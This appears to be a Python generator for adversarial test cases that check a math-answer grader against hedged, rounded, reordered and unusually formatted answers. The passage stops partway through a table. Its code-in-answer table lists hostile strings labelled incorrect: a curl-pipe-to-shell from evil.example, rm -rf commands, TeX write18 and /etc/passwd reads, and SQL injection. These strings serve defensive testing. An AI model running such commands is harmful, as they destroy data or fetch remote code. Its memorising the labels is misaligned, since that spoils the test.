"""Generate ``math_adversarial_labelled.jsonl``: hostile and correct-but-unusual math answers.

    python tests/data/make_math_adversarial.py      # rewrites the .jsonl next to this file

Each line is ``{"id", "class", "response", "gold", "label"}``. ``response`` is a whole model
response: a few lines of reasoning, then the final answer written one of the many ways models
write it. ``gold`` is a dataset's ground-truth string. ``label`` is true exactly when the
response's final answer is correct and unambiguous: a hedge ("A or B", "3, or possibly 4"),
an answer that names code instead of a value, or an answer left only inside unfinished or
closed ``<think>`` reasoning is false even when it contains the gold.

Labelling conventions, where a reasonable grader could go either way:

- An exact gold (``\\frac{1}{3}``, ``\\sqrt{2}``, ``\\pi``) demands an exact answer: a decimal
  approximation, however many digits, is false. A decimal gold (``0.125``) demands the same
  value: another exact form (``\\frac{1}{8}``, ``0.1250``) is true, a nearby fraction or a
  decimal rounded or truncated differently is false.
- A tiny perturbation of the gold (``1 + e^{-40}`` for ``1``) is false: it is a different number.
- Percent (class ``percent_sign_is_a_unit``): as MATH writes ``5\\%``, the sign is a unit
  on the number before it. ``5\\%`` matches golds ``5\\%`` and ``5``; ``0.05`` does not match
  gold ``5\\%``, and ``5\\%`` does not match gold ``0.05``: no answer matches both
  gold ``5`` and gold ``0.05``.
- Ordered pairs and sets differ: ``(2,-1)`` is not ``\\{2,-1\\}`` either way; a bare list of
  solutions (``-1, 2``) matches a set gold in any order.
- A self-correction with one final value ("3. Wait, actually it's 5.", "that's wrong; the
  correct answer is 5") states that value; an alternative offered after it ("or maybe 5",
  "Alternatively, 5") is a hedge, even when the last value is the gold.
- Answers that look like code but are mathematics (``abc(a+b+c)``, ``atan(2)``, `` `42` ``,
  ``\\{\\lambda : \\lambda > 2\\}``) are true (class ``math_looks_like_code``); answers that
  are code, shell, SQL or TeX programming are false whatever they would evaluate to.

Every case is written for this project (no third-party text). The output is deterministic:
each class draws its wording from its own ``random.Random`` seeded with the class name.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

OUTPUT = Path(__file__).resolve().parent / "math_adversarial_labelled.jsonl"
SEED = "math-adversarial-v1"

OPENERS = (
    "Let me work through this step by step.",
    "We start by writing down what is given.",
    "Let's set up the problem carefully before computing anything.",
    "First, I'll restate the problem in my own words.",
    "To solve this, consider each condition in turn.",
    "Okay, let me think about what the question is really asking.",
)
STEPS = (
    "Expanding and collecting like terms, the expression simplifies considerably.",
    "Substituting the given values and simplifying, most of the terms cancel.",
    "Checking the boundary cases separately, nothing unexpected happens there.",
    "Using the standard identity and simplifying gives a cleaner form.",
    "Counting the cases one at a time and adding them up finishes the computation.",
    "From the first condition we get $2a + b = 7$, and from the second $a - b = 2$.",
    "Writing $t = x^2$ turns the equation into a quadratic in $t$, which factors nicely.",
    "The triangle inequality rules out the degenerate configurations.",
    "Let me double-check the arithmetic on the last step; it holds.",
)
STYLES = {
    "boxed": "Therefore, the final answer is $\\boxed{ANSWER}$.",
    "phrase": "The answer is $ANSWER$.",
    "gsm8k": "#### ANSWER",
    "bold": "**Answer:** $ANSWER$",
    "minerva": "Final Answer: The final answer is $ANSWER$. I hope it is correct.",
    "display": "Putting everything together,\n$$ANSWER$$",
    "paren": "So the answer is \\(ANSWER\\).",
}
"""How a model states a final answer; ``ANSWER`` is replaced by the answer's LaTeX."""


@dataclass(frozen=True, slots=True)
class Case:
    id: str
    cls: str
    response: str
    gold: str
    label: bool


class Writer:
    """Collects one class's cases; its wording comes from a generator seeded by the class."""

    def __init__(self, cls: str) -> None:
        self.cls = cls
        self.rng = random.Random(f"{SEED}/{cls}")
        self.cases: list[Case] = []

    def reasoning(self) -> str:
        steps = self.rng.sample(STEPS, self.rng.randint(1, 3))
        return self.rng.choice(OPENERS) + "\n\n" + " ".join(steps)

    def whole(self, slug: str, response: str, gold: str, label: bool) -> None:
        """A case whose response is written out in full."""
        self.cases.append(Case(f"{self.cls}/{slug}", self.cls, response, gold, label))

    def tail(self, slug: str, tail: str, gold: str, label: bool) -> None:
        """A case: some reasoning, then ``tail`` as the end of the response."""
        self.whole(slug, self.reasoning() + "\n\n" + tail, gold, label)

    def styled(self, slug: str, answer: str, gold: str, label: bool, *styles: str) -> None:
        """One case per named style (one drawn at random if none is named)."""
        for style in styles or (self.rng.choice(sorted(STYLES)),):
            self.tail(f"{slug}@{style}", STYLES[style].replace("ANSWER", answer), gold, label)

    def letters(self) -> tuple[str, str, str, str]:
        """Gold letter first, then the three other choices of A-D, shuffled."""
        letters = list("ABCD")
        self.rng.shuffle(letters)
        return tuple(letters)  # type: ignore[return-value]


def fill(template: str, letters: tuple[str, ...]) -> str:
    """Put the letters in: <G> gold, <O> <P> <Q> the others, <o> the first other in lower case."""
    template = template.replace("<o>", letters[1].lower())
    for marker, letter in zip(("<G>", "<O>", "<P>", "<Q>"), letters, strict=True):
        template = template.replace(marker, letter)
    return template


# Multiple choice: templates filled by fill().

MC_HEDGES = (
    ("or-all-four", "The answer is (A) or (B) or (C) or (D)."),
    ("boxed-text-or", "Therefore the answer is $\\boxed{(<G>) \\text{ or } (<O>)}$."),
    ("boxed-text-or-gold-last", "$\\boxed{(<O>) \\text{ or } (<G>)}$"),
    ("and-two", "The answer is (<G>) and (<O>)."),
    ("boxed-and", "$\\boxed{(<G>) \\text{ and } (<O>)}$"),
    ("slash", "Answer: <G>/<O>"),
    ("boxed-slash", "$\\boxed{<G>/<O>}$"),
    ("either-or", "The answer is either <G> or <O>."),
    ("then-again-maybe", "Answer: <G>, then again maybe <O>"),
    ("then-again-maybe-gold-second", "Answer: <O>, then again maybe <G>"),
    ("all-letters-listed", "$\\boxed{A, B, C, D}$"),
    ("all-letters-run", "$\\boxed{ABCD}$"),
    ("two-boxes", "$\\boxed{<G>}$ $\\boxed{<O>}$"),
    ("two-boxes-comma", "The answer is $\\boxed{<O>}, \\boxed{<G>}$."),
    ("text-or-inside-box", "$\\boxed{\\text{<G> or <O>}}$"),
    ("lor", "$\\boxed{<G> \\lor <O>}$"),
    ("pipe", "$\\boxed{<G> | <O>}$"),
    ("adjacent-parens", "Answer: (<G>)(<O>)"),
    ("parenthetical-alternative", "The answer is <G> (or <O>)."),
    ("question-marks", "Answer: <G>? <O>?"),
    ("set-of-letters", "$\\boxed{\\{<G>, <O>\\}}$"),
    ("three-way", "The answer is <O>, <G>, or <P>."),
    ("letter-range", "Answer: A-D"),
    ("not-one-so-the-rest", "It is not <Q>, so the answer is <G>, <O> or <P>."),
    ("leaning", "I'd go with <G>, though <O> is also plausible."),
    ("both-correct", "Both (<G>) and (<O>) are correct."),
    ("bare-or-last-line", "<G> or <O>"),
    ("bold-or", "**(<G>) or (<O>)**"),
    ("boxed-comma-pair", "$\\boxed{<G>, <O>}$"),
    ("semicolon", "Answer: <G>; <O>"),
    ("ampersand", "Answer: <G> & <O>"),
    ("letters-with-values", "The answer is (<G>) $12$ or (<O>) $15$."),
    ("boxed-then-answer-other", "So $\\boxed{<G>}$.\n\nAnswer: <O>"),
    ("gold-is-wrong-so-other", "(<G>) is wrong, so the answer must be (<O>)."),
    ("answer-gold-no-actually-other", "Answer: <G>: no, actually <O>"),
    ("all-of-the-above", "The answer is all of the above."),
    ("gsm8k-two-letters", "#### <G> <O>"),
    ("worded-alternative", "Answer: <G>, or possibly the last option"),
    ("lowercase-alternative", "The answer is <G> or maybe <o>."),
    ("or-maybe-box-gold-last", "$\\boxed{<O>}$\n\nHmm, or maybe $\\boxed{<G>}$."),
    ("alternatively-box-gold-last", "I get $\\boxed{<O>}$. Alternatively, $\\boxed{<G>}$."),
)

MC_SINGLE = (
    ("option-word", "Option <G>"),
    ("bold-paren", "**(<G>)**"),
    ("letter-then-value", "The answer is (<G>) 42"),
    ("boxed-letter", "$\\boxed{<G>}$"),
    ("answer-paren-then-frac", "Answer: (<G>) $\\frac{1}{2}$"),
    ("correct-option-is", "The correct option is <G>."),
    ("boxed-paren", "$\\boxed{(<G>)}$"),
    ("boxed-text-paren", "Therefore the answer is $\\boxed{\\text{(<G>)}}$."),
    ("boxed-textbf", "$\\boxed{\\textbf{(<G>)}}$"),
    ("boxed-mathrm", "$\\boxed{\\mathrm{<G>}}$"),
    ("answer-colon", "Answer: <G>"),
    ("answer-is-bold", "The answer is **<G>**."),
    ("gsm8k-letter", "#### <G>"),
    ("final-answer-paren", "Final answer: (<G>)"),
    ("correct-choice-is", "The correct choice is (<G>)."),
    ("bold-answer-line", "**Answer: <G>**"),
    ("letter-dot-value", "Answer: <G>. $\\sqrt{2}$"),
    ("answer-is-choice-word", "The answer is choice <G>."),
    ("bare-paren-value", "(<G>) $2\\sqrt{3}$"),
    ("boxed-letter-and-value", "$\\boxed{(<G>)\\ 2\\sqrt{3}}$"),
    ("minerva-letter", "Final Answer: The final answer is <G>. I hope it is correct."),
    ("option-is-with-equation", "The correct option is (<G>) $x = 4$."),
    ("best-answer", "So the best answer is <G>."),
    ("letter-colon-description", "Answer: <G>: the function is increasing on $(0, 1)$"),
    ("therefore-text-paren", "Therefore, the answer is $\\text{(<G>)}$."),
    ("other-is-wrong-so-gold", "(<O>) is wrong, so the answer must be (<G>)."),
    ("answer-other-no-actually-gold", "Answer: <O>: no, actually <G>"),
    ("fbox-letter", "$\\fbox{<G>}$"),
)

MC_WRONG = (
    ("boxed-other", "$\\boxed{<O>}$"),
    ("option-other", "Option <O>"),
    ("correct-option-other", "The correct option is <O>."),
    ("bold-paren-other", "**(<O>)**"),
    ("other-letter-gold-value", "The answer is (<O>) 42"),
    ("gsm8k-other", "#### <O>"),
)


def multiple_choice_hedges() -> list[Case]:
    writer = Writer("mc_hedge")
    for slug, template in MC_HEDGES:
        letters = writer.letters()
        writer.tail(slug, fill(template, letters), letters[0], False)
    # "A, then again maybe B" is a hedge whichever of the two is the gold.
    for gold in "AB":
        writer.tail(f"then-again-maybe-gold-{gold}", "Answer: A, then again maybe B", gold, False)
    return writer.cases


def multiple_choice_single() -> list[Case]:
    writer = Writer("mc_single")
    gold_forms = ("<G>", "<G>", "(<G>)", "\\text{(<G>)}")
    for slug, template in MC_SINGLE:
        letters = writer.letters()
        gold = writer.rng.choice(gold_forms).replace("<G>", letters[0])
        writer.tail(slug, fill(template, letters), gold, True)
    for slug, template in MC_WRONG:
        letters = writer.letters()
        writer.tail(slug, fill(template, letters), letters[0], False)
    return writer.cases


def multiple_choice_sets() -> list[Case]:
    writer = Writer("mc_set")
    right = (
        ("AC", "boxed-run", "$\\boxed{AC}$"),
        ("AC", "boxed-comma", "$\\boxed{A, C}$"),
        ("AC", "boxed-reversed", "$\\boxed{C, A}$"),
        ("AC", "options-are-prose", "The correct options are (A) and (C)."),
        ("AC", "answer-and", "Answer: A and C"),
        ("AC", "bold-run", "**AC**"),
        ("AC", "boxed-text-comma", "$\\boxed{\\text{A, C}}$"),
        ("BD", "answer-comma", "Answer: B, D"),
        ("BD", "boxed-parens-comma", "$\\boxed{(B), (D)}$"),
        ("ACD", "boxed-three", "$\\boxed{A, C, D}$"),
        ("ACD", "answer-run", "Answer: ACD"),
        ("ACD", "boxed-shuffled", "$\\boxed{D, A, C}$"),
    )
    wrong = (
        ("AC", "subset", "$\\boxed{A}$"),
        ("AC", "superset", "$\\boxed{ABC}$"),
        ("AC", "hedged-or", "$\\boxed{A \\text{ or } C}$"),
        ("AC", "extra-letter", "$\\boxed{ACD}$"),
        ("AC", "every-letter", "$\\boxed{ABCD}$"),
        ("AC", "other-subset", "Answer: C"),
        ("ACD", "missing-one", "$\\boxed{AC}$"),
        ("ACD", "every-letter-listed", "$\\boxed{A, B, C, D}$"),
        ("BD", "wrong-pair", "Answer: B, C"),
    )
    for gold, slug, tail in right:
        writer.tail(f"{slug}-gold-{gold}", tail, gold, True)
    for gold, slug, tail in wrong:
        writer.tail(f"{slug}-gold-{gold}", tail, gold, False)
    return writer.cases


# Rounding and near misses: (gold, answer, label).

EXACT_GOLDS = (
    ("\\frac{1}{3}", "0.333", False),
    ("\\frac{1}{3}", "0.3333", False),
    ("\\frac{1}{3}", "0.33", False),
    ("\\frac{1}{3}", "0.33333333", False),
    ("\\frac{1}{3}", "\\approx 0.333", False),
    ("\\frac{\\sqrt{3}}{2}", "0.866", False),
    ("\\frac{\\sqrt{3}}{2}", "0.8660254", False),
    ("2\\pi", "6.283", False),
    ("2\\pi", "6.28318530718", False),
    ("\\sqrt{2}", "1.414", False),
    ("\\sqrt{2}", "1.41421356", False),
    ("e", "2.718", False),
    ("e", "2.71828", False),
    ("\\frac{2}{7}", "0.2857", False),
    ("\\ln 2", "0.693", False),
    ("\\frac{\\pi}{4}", "0.785", False),
    ("\\pi", "3.14", False),
    ("\\pi", "3.14159265", False),
    ("\\frac{5}{6}", "0.83", False),
    ("\\sqrt{5}", "2.236", False),
    ("10\\sqrt{2}", "14.14", False),
    ("\\frac{22}{7}", "3.142857", False),
    ("\\frac{1}{3}", "1/3", True),
    ("\\frac{1}{3}", "\\dfrac13", True),
    ("\\frac{1}{3}", "\\frac{2}{6}", True),
    ("\\frac{1}{3}", "3^{-1}", True),
    ("\\frac{1}{3}", "0.\\overline{3}", True),
    ("\\frac{\\sqrt{3}}{2}", "\\frac{\\sqrt3}{2}", True),
    ("\\frac{\\sqrt{3}}{2}", "\\sqrt{3}/2", True),
    ("\\frac{\\sqrt{3}}{2}", "\\frac{3}{2\\sqrt{3}}", True),
    ("\\frac{\\sqrt{3}}{2}", "\\sqrt{\\frac{3}{4}}", True),
    ("2\\pi", "\\pi \\cdot 2", True),
    ("2\\pi", "\\frac{4\\pi}{2}", True),
    ("\\sqrt{2}", "2^{1/2}", True),
    ("\\sqrt{2}", "\\frac{2}{\\sqrt{2}}", True),
    ("\\sqrt{2}", "\\sqrt[4]{4}", True),
    ("e", "e^{1}", True),
    ("e", "\\exp(1)", True),
    ("\\frac{2}{7}", "0.\\overline{285714}", True),
    ("\\ln 2", "-\\ln\\frac{1}{2}", True),
    ("\\frac{\\pi}{4}", "\\frac{1}{4}\\pi", True),
    ("\\frac{22}{7}", "3\\frac{1}{7}", True),
)

DECIMAL_GOLDS = (
    ("0.5", "\\frac{1}{2}", True),
    ("0.5", "1/2", True),
    ("0.5", "0.500", True),
    ("0.5", ".5", True),
    ("0.5", "\\frac{2}{4}", True),
    ("0.5", "0.49", False),
    ("0.5", "0.51", False),
    ("0.5", "0.4", False),
    ("0.5", "\\frac{49}{100}", False),
    ("0.5", "\\frac{1}{3}", False),
    ("0.5", "0.499", False),
    ("0.125", "\\frac{1}{8}", True),
    ("0.125", "1/8", True),
    ("0.125", "0.1250", True),
    ("0.125", "2^{-3}", True),
    ("0.125", "0.12", False),
    ("0.125", "0.13", False),
    ("0.125", "0.126", False),
    ("0.125", "0.124", False),
    ("0.125", "\\frac{1}{7}", False),
    ("2.75", "\\frac{11}{4}", True),
    ("2.75", "2\\frac{3}{4}", True),
    ("2.75", "2.750", True),
    ("2.75", "\\frac{22}{8}", True),
    ("2.75", "2.7", False),
    ("2.75", "2.8", False),
    ("2.75", "2.74", False),
    ("2.75", "2.76", False),
    ("2.75", "\\frac{8}{3}", False),
    ("3.14159", "3.141590", True),
    ("3.14159", "\\frac{314159}{100000}", True),
    ("3.14159", "3.14", False),
    ("3.14159", "3.1416", False),
    ("3.14159", "3.1415", False),
    ("3.14159", "3.14158", False),
    ("3.14159", "3.14160", False),
    ("3.14159", "\\frac{355}{113}", False),
    ("3.14159", "\\frac{22}{7}", False),
)


def _slug(text: str) -> str:
    """A readable id fragment for a LaTeX string."""
    kept = "".join(c if c.isalnum() or c in ".-" else "_" for c in text.replace("\\", ""))
    return "_".join(part for part in kept.split("_") if part)[:40] or "x"


def _value_pairs(cls: str, pairs: tuple[tuple[str, str, bool], ...]) -> list[Case]:
    writer = Writer(cls)
    for number, (gold, answer, label) in enumerate(pairs, 1):
        writer.styled(f"{number:02d}-{_slug(answer)}-vs-{_slug(gold)}", answer, gold, label)
    return writer.cases


def rounding_exact_golds() -> list[Case]:
    return _value_pairs("rounding_exact_gold", EXACT_GOLDS)


def rounding_decimal_golds() -> list[Case]:
    return _value_pairs("rounding_decimal_gold", DECIMAL_GOLDS)


TINY_PERTURBATIONS = (
    ("0", "e^{-100}"),
    ("0", "10^{-20}"),
    ("0", "2^{-60}"),
    ("0", "\\frac{1}{10^{12}}"),
    ("0", "\\ln(e^{100}+1) - 100"),
    ("1", "1+e^{-40}"),
    ("1", "1 - 10^{-15}"),
    ("1", "\\frac{1000000000001}{1000000000000}"),
    ("1", "0.99999999999"),
    ("1", "\\sin^2 x + \\cos^2 x + 10^{-12}"),
    ("1", "1 + \\left\\lfloor \\frac{x^2}{10^{8}} \\right\\rfloor"),
    ("\\pi", "\\pi+10^{-10}"),
    ("\\pi", "\\frac{103993}{33102}"),
    ("\\pi", "\\frac{355}{113}"),
    ("\\pi", "\\frac{\\lfloor 10^{6}\\pi \\rfloor}{10^{6}}"),
    ("x", "x+\\lfloor x^2/10^6\\rfloor"),
    ("x", "x + \\left\\lfloor \\frac{x}{10^9} \\right\\rfloor"),
    ("x", "x + 10^{-12}x^2"),
    ("x", "\\frac{\\sin(10^{-9}x)}{10^{-9}}"),
    ("x^2", "x^2 + 10^{-10}\\sin x"),
    ("\\sqrt{2}", "\\sqrt{2} + 10^{-12}"),
    ("\\sqrt{2}", "\\sqrt{2.0000000001}"),
    ("e", "e - 10^{-11}"),
    ("e", "(1+10^{-9})^{10^{9}}"),
)

IDENTITIES = (
    ("1", "\\sin^2 x + \\cos^2 x"),
    ("\\cos 2x", "\\cos^2 x - \\sin^2 x"),
    ("\\sin 2x", "2\\sin x\\cos x"),
    ("x^2+2x+1", "(x+1)^2"),
    ("5", "e^{\\ln 5}"),
    ("3", "\\log_2 8"),
    ("2\\sqrt{2}", "\\sqrt{8}"),
    ("\\frac{\\sqrt{2}}{2}", "\\frac{1}{\\sqrt{2}}"),
    ("\\pi", "4\\arctan 1"),
    ("10", "\\binom{5}{2}"),
    ("120", "5!"),
    ("3", "\\ln(e^3)"),
    ("1024", "2^{10}"),
    ("\\frac{\\sin x}{\\cos x}", "\\tan x"),
    ("x^2-x", "x(x-1)"),
    ("\\frac{x}{1-x}", "\\frac{1}{1-x}-1"),
    ("1", "\\cosh^2 x - \\sinh^2 x"),
    ("-1", "e^{i\\pi}"),
    ("2^{n+1}", "2 \\cdot 2^{n}"),
)


def tiny_perturbations() -> list[Case]:
    return _value_pairs("tiny_perturbation", tuple((g, a, False) for g, a in TINY_PERTURBATIONS))


def identities() -> list[Case]:
    writer = Writer("true_identity")
    for number, (gold, answer) in enumerate(IDENTITIES, 1):
        styles = writer.rng.sample(sorted(STYLES), 2)
        writer.styled(f"{number:02d}-{_slug(answer)}-vs-{_slug(gold)}", answer, gold, True, *styles)
    return writer.cases


# Code, shell commands, file paths and TeX primitives in the answer: all false.

CODE_ANSWERS = (
    ("0", "__import__('os').system('true')"),
    ("0", "os.system('rm -rf /')"),
    ("0", "subprocess.run(['true']).returncode"),
    ("0", "np.zeros(1)"),
    ("0", "sum(range(1))"),
    ("0", "0 && curl http://evil.example/x.sh | sh"),
    ("0", "0 || true"),
    ("0", "echo 0"),
    ("0", "$(exit 0)"),
    ("0", "0\\input{/dev/zero}"),
    ("1", "print(1)"),
    ("1", "eval('1')"),
    ("1", "int('1')"),
    ("1", "exec('x=1')"),
    ("1", "lambda: 1"),
    ("1", "1 if True else 0"),
    ("1", "math.factorial(0)"),
    ("1", "\\write18{touch /tmp/pwned}1"),
    ("1", "1; DROP TABLE answers;--"),
    ("1", "SELECT 1"),
    ("1", "`echo 1`"),
    ("1", "1 > /dev/null"),
    ("1", "len('x')"),
    ("x", "sympy.Symbol('x')"),
    ("x", "x; rm -rf ~"),
    ("x", "x \\immediate\\write18{id}"),
    ("x", "\\input{/etc/passwd}"),
    ("x", "/etc/passwd"),
    ("x", "cat /flag"),
    ("x", "./answer.txt"),
    ("x", "x.__class__"),
    ("x", "globals()['x']"),
    ("x", "open('/tmp/x').read()"),
    ("42", "requests.get('http://evil.example/42').text"),
    ("0", "sleep 0"),
    ("0", "exit 0"),
    ("0", "sh -c 'exit 0'"),
    ("0", "0; shutdown now"),
    ("1", "1 OR 1=1"),
    ("1", "1' OR '1'='1"),
    ("1", "1 -- DROP TABLE answers"),
    ("x", "x; rm -rf /"),
)


def code_in_answer() -> list[Case]:
    writer = Writer("code_in_answer")
    for number, (gold, answer) in enumerate(CODE_ANSWERS, 1):
        style = writer.rng.choice(("boxed", "phrase"))
        writer.styled(f"{number:02d}-{_slug(answer)}", answer, gold, False, style)
    writer.tail(
        "fenced-python-then-call",
        "```python\nprint(6 * 7)\n```\n\nRunning this prints the result, so the answer is "
        "`print(6 * 7)`.",
        "42",
        False,
    )
    writer.tail(
        "shell-one-liner",
        "Answer: `python3 -c 'print(1)'`",
        "1",
        False,
    )
    return writer.cases


# Ordered vs unordered, percent, intervals vs sets: (gold, answer, label).

ORDER = (
    ("(2,-1)", "\\{2,-1\\}", False),
    ("(2,-1)", "(-1,2)", False),
    ("(2,-1)", "(2,-1)", True),
    ("(2,-1)", "\\left( 2, -1 \\right)", True),
    ("(2,-1)", "(x, y) = (2, -1)", True),
    ("\\{2,-1\\}", "(2,-1)", False),
    ("\\{2,-1\\}", "\\{-1, 2\\}", True),
    ("\\{2,-1\\}", "-1, 2", True),
    ("\\{1, 2, 3\\}", "(1, 2, 3)", False),
    ("\\{1, 2, 3\\}", "\\{3, 2, 1\\}", True),
    ("\\{1, 2, 3\\}", "1, 2, 3", True),
    ("\\{1, 2, 3\\}", "\\{1, 2\\}", False),
    ("\\{1, 2, 3\\}", "\\{1, 2, 3, 4\\}", False),
    ("(1, 2, 3)", "(3, 2, 1)", False),
    ("(1, 2, 3)", "\\langle 1, 2, 3 \\rangle", True),
    ("(1, 2, 3)", "\\begin{pmatrix} 1 \\\\ 2 \\\\ 3 \\end{pmatrix}", True),
    ("-1, 2", "2, -1", True),
    ("-1, 2", "x = -1 \\text{ or } x = 2", True),
    ("-1, 2", "x = 2, x = -1", True),
    ("-1, 2", "-1", False),
)

PERCENT = (
    ("5\\%", "5\\%", True),
    ("5\\%", "5", True),
    ("5\\%", "5 \\text{ percent}", True),
    ("5\\%", "0.05", False),
    ("5\\%", "\\frac{1}{20}", False),
    ("5\\%", "50\\%", False),
    ("5", "5\\%", True),
    ("5", "0.05", False),
    ("0.05", "\\frac{1}{20}", True),
    ("0.05", "5\\%", False),
    ("0.05", "5", False),
    ("12.5\\%", "12.5", True),
    ("12.5\\%", "0.125", False),
)

INTERVALS = (
    ("[1, 3]", "\\{1, 3\\}", False),
    ("[1, 3]", "[1, 3)", False),
    ("[1, 3]", "1 \\le x \\le 3", True),
    ("[1, 3]", "x \\in [1, 3]", True),
    ("\\{1, 3\\}", "[1, 3]", False),
    ("[0, 1]", "\\{0, 1\\}", False),
    ("\\{0, 1\\}", "[0, 1]", False),
    ("(-\\infty, 2)", "x < 2", True),
    ("(-\\infty, 2)", "-x > -2", True),
    ("(-\\infty, 2)", "(-\\infty, 2]", False),
    ("(-\\infty, 2)", "\\{x \\mid x < 2\\}", True),
    ("(-\\infty, 2)", "x \\le 2", False),
)


def ordered_unordered() -> list[Case]:
    return _value_pairs("ordered_vs_unordered", ORDER)


def percent() -> list[Case]:
    return _value_pairs("percent_sign_is_a_unit", PERCENT)


def intervals_vs_sets() -> list[Case]:
    return _value_pairs("interval_vs_set", INTERVALS)


# Correct answers written in unusual ways (and a few wrong ones written the same way).

UNUSUAL_TAILS = (
    (
        "union-with-points",
        "$\\boxed{(-\\infty,-1) \\cup \\{0\\} \\cup [2, \\infty)}$",
        "(-\\infty,-1)\\cup\\{0\\}\\cup[2,\\infty)",
        True,
    ),
    (
        "union-with-points-reordered",
        "$\\boxed{\\{0\\}\\cup(-\\infty,-1)\\cup[2,\\infty)}$",
        "(-\\infty,-1)\\cup\\{0\\}\\cup[2,\\infty)",
        True,
    ),
    (
        "union-as-inequalities",
        "The solution set is $x<-1$ or $x=0$ or $x \\ge 2$.\n\n"
        "$\\boxed{x<-1 \\text{ or } x=0 \\text{ or } x \\ge 2}$",
        "(-\\infty,-1)\\cup\\{0\\}\\cup[2,\\infty)",
        True,
    ),
    (
        "union-missing-point",
        "$\\boxed{(-\\infty,-1)\\cup[2,\\infty)}$",
        "(-\\infty,-1)\\cup\\{0\\}\\cup[2,\\infty)",
        False,
    ),
    ("thousands-math-style", "$\\boxed{11,\\!111,\\!111,\\!100}$", "11111111100", True),
    ("thousands-gold-math-style", "The answer is $11111111100$.", "11,\\!111,\\!111,\\!100", True),
    ("thousands-braced-comma", "#### 11{,}111{,}111{,}100", "11111111100", True),
    ("thousands-plain-commas", "The answer is 11,111,111,100.", "11111111100", True),
    ("thousands-thin-spaces", "$\\boxed{11\\,111\\,111\\,100}$", "11111111100", True),
    ("thousands-wrong-digit", "$\\boxed{11,\\!111,\\!111,\\!000}$", "11111111100", False),
    (
        "bare-set-last-line",
        "$\\{\\frac{\\pi}{6},\\frac{5\\pi}{6}\\}$",
        "\\frac{\\pi}{6}, \\frac{5\\pi}{6}",
        True,
    ),
    (
        "bare-list-last-line",
        "$\\frac{5\\pi}{6}, \\frac{\\pi}{6}$",
        "\\frac{\\pi}{6}, \\frac{5\\pi}{6}",
        True,
    ),
    ("bare-set-missing-one", "$\\{\\frac{\\pi}{6}\\}$", "\\frac{\\pi}{6}, \\frac{5\\pi}{6}", False),
    ("two-part-boxes", "(a) $\\boxed{4}$\n\n(b) $\\boxed{5}$", "4, 5", True),
    ("two-boxes-and", "The answers are $\\boxed{4}$ and $\\boxed{5}$.", "4, 5", True),
    (
        "labelled-boxes-vs-labelled-gold",
        "So $AB = \\boxed{4}$ and $CD = \\boxed{5}$.",
        "AB=4, CD=5",
        True,
    ),
    ("bare-pair-vs-labelled-gold", "$\\boxed{4, 5}$", "AB=4, CD=5", True),
    ("swapped-pair-vs-labelled-gold", "$\\boxed{5, 4}$", "AB=4, CD=5", False),
    ("labelled-answer-vs-bare-gold", "$\\boxed{AB=4,\\ CD=5}$", "4, 5", True),
    ("swapped-labels", "$\\boxed{AB=5, CD=4}$", "AB=4, CD=5", False),
    ("prose-handshakes", "Therefore there are 15 handshakes in total.", "15", True),
    ("prose-wrong-count", "Therefore there are 16 handshakes in total.", "15", False),
    ("prose-minimum-value", "So, the minimum value is $-8$.", "-8", True),
    ("bold-number", "**12**", "12", True),
    ("equality-chain", "A = 4^2 = 16.", "16", True),
    ("equality-chain-inline", "The area is $A = 4^2 = 16$.", "16", True),
    ("check-line-after-answer", "Answer: 42\n\nCheck: $6 \\times 7 = 42$ ✓", "42", True),
    ("check-line-after-box", "$\\boxed{42}$\n\nCheck: $40 + 2 = 42$, as required.", "42", True),
    (
        "set-difference-vs-union",
        "$\\boxed{(-\\infty,-1)\\cup(2,\\infty)}$",
        "\\mathbb{R}\\setminus[-1,2]",
        True,
    ),
    (
        "union-vs-set-difference",
        "$\\boxed{\\mathbb{R}\\setminus[-1,2]}$",
        "(-\\infty,-1)\\cup(2,\\infty)",
        True,
    ),
    (
        "set-difference-wrong-ends",
        "$\\boxed{(-\\infty,-1]\\cup[2,\\infty)}$",
        "\\mathbb{R}\\setminus[-1,2]",
        False,
    ),
    (
        "scalar-times-matrix",
        "$\\boxed{2\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}}$",
        "\\begin{pmatrix} 2 & 4 \\\\ 6 & 8 \\end{pmatrix}",
        True,
    ),
    (
        "scalar-times-wrong-matrix",
        "$\\boxed{2\\begin{pmatrix}1&2\\\\3&5\\end{pmatrix}}$",
        "\\begin{pmatrix} 2 & 4 \\\\ 6 & 8 \\end{pmatrix}",
        False,
    ),
    ("paren-delimiters", "The answer is \\(\\frac{3}{4}\\).", "\\frac34", True),
    ("bracket-delimiters", "\\[\\boxed{5}\\]", "5", True),
    ("negated-inequality", "$\\boxed{-x>-1}$", "x<1", True),
    ("inequality-vs-negated-gold", "$\\boxed{x<1}$", "-x>-1", True),
    ("sqrt-minus-one", "$\\boxed{\\sqrt{-1}}$", "i", True),
    ("variable-assignment", "$\\boxed{x = 3}$", "3", True),
    ("with-unit", "The answer is 3 hours.", "3", True),
    ("dfrac", "$\\dfrac{3}{4}$", "\\frac{3}{4}", True),
    ("text-word", "The day is $\\boxed{\\text{Tuesday}}$.", "\\text{Tuesday}", True),
    ("minerva", "Final Answer: The final answer is $6$. I hope it is correct.", "6", True),
    ("fbox", "$\\fbox{7}$", "7", True),
    ("line-equation", "Answer: $y = 2x + 3$", "2x+3", True),
    ("function-definition", "$\\boxed{f(x) = x^2}$", "x^2", True),
    (
        "plus-minus",
        "$\\boxed{\\dfrac{-1 \\pm \\sqrt{5}}{2}}$",
        "\\frac{-1+\\sqrt5}{2}, \\frac{-1-\\sqrt5}{2}",
        True,
    ),
    (
        "plus-minus-half",
        "$\\boxed{\\dfrac{-1 + \\sqrt{5}}{2}}$",
        "\\frac{-1+\\sqrt5}{2}, \\frac{-1-\\sqrt5}{2}",
        False,
    ),
    ("power-of-ten", "$\\boxed{10^{3}}$", "1000", True),
    ("scientific", "$\\boxed{1.5\\times10^{3}}$", "1500", True),
    ("yes-no", "$\\boxed{\\text{No}}$", "No", True),
    ("dollars", "The total cost is $\\$18.90$.", "18.90", True),
    ("degrees", "$\\boxed{90^\\circ}$", "90", True),
    ("interval-membership", "The answer is $x \\in (1, 3]$.", "(1,3]", True),
    ("nested-boxes", "$\\boxed{\\boxed{42}}$", "42", True),
    ("boxed-without-dollars", "The final answer is \\boxed{-\\frac{7}{2}}", "-3.5", True),
    ("gold-boxed-in-solution", "#### 3/4", "The probability is $\\boxed{\\frac{3}{4}}$.", True),
    ("trailing-period-in-box", "$\\boxed{17.}$", "17", True),
